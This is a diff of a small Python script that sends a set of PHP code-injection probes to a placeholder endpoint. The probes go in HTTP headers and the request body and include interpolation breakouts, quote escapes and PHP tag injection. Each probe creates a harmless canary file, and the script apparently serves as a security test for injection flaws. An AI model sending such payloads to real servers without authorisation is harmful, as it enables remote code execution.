@@ -4,8 +4,8 @@ url = "https://api.example.com/run"
 headers = {
     "X-Try-1": "{${touch('snipgen-canary')}}",
     "X-Try-2": "'.touch('snipgen-canary').'",
-    "X-Try-3": "\".touch(\"snipgen-canary\").\"",
-    "X-Try-4": "{$_SERVER[touch(\"snipgen-canary\")]}",
+    "X-Try-3": '".touch("snipgen-canary")."',
+    "X-Try-4": '{$_SERVER[touch("snipgen-canary")]}',
     "X-Try-5": "$_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}",
     "X-Try-6": "?><?php touch('snipgen-canary'); ?>",
     "X-Try-7": "*/ touch('snipgen-canary'); /*",
@@ -17,7 +17,7 @@ headers = {
     "X-Try-15": "\\",
     "Content-Type": "text/plain",
 }
-payload = """\
+data = """\
 {${touch('snipgen-canary')}}
 '.touch('snipgen-canary').'
 ".touch("snipgen-canary")."
@@ -40,5 +40,5 @@ touch('snipgen-canary');
 
 \\"""
 
-response = requests.post(url, headers=headers, data=payload)
+response = requests.post(url, headers=headers, data=data)
 print(response.text)
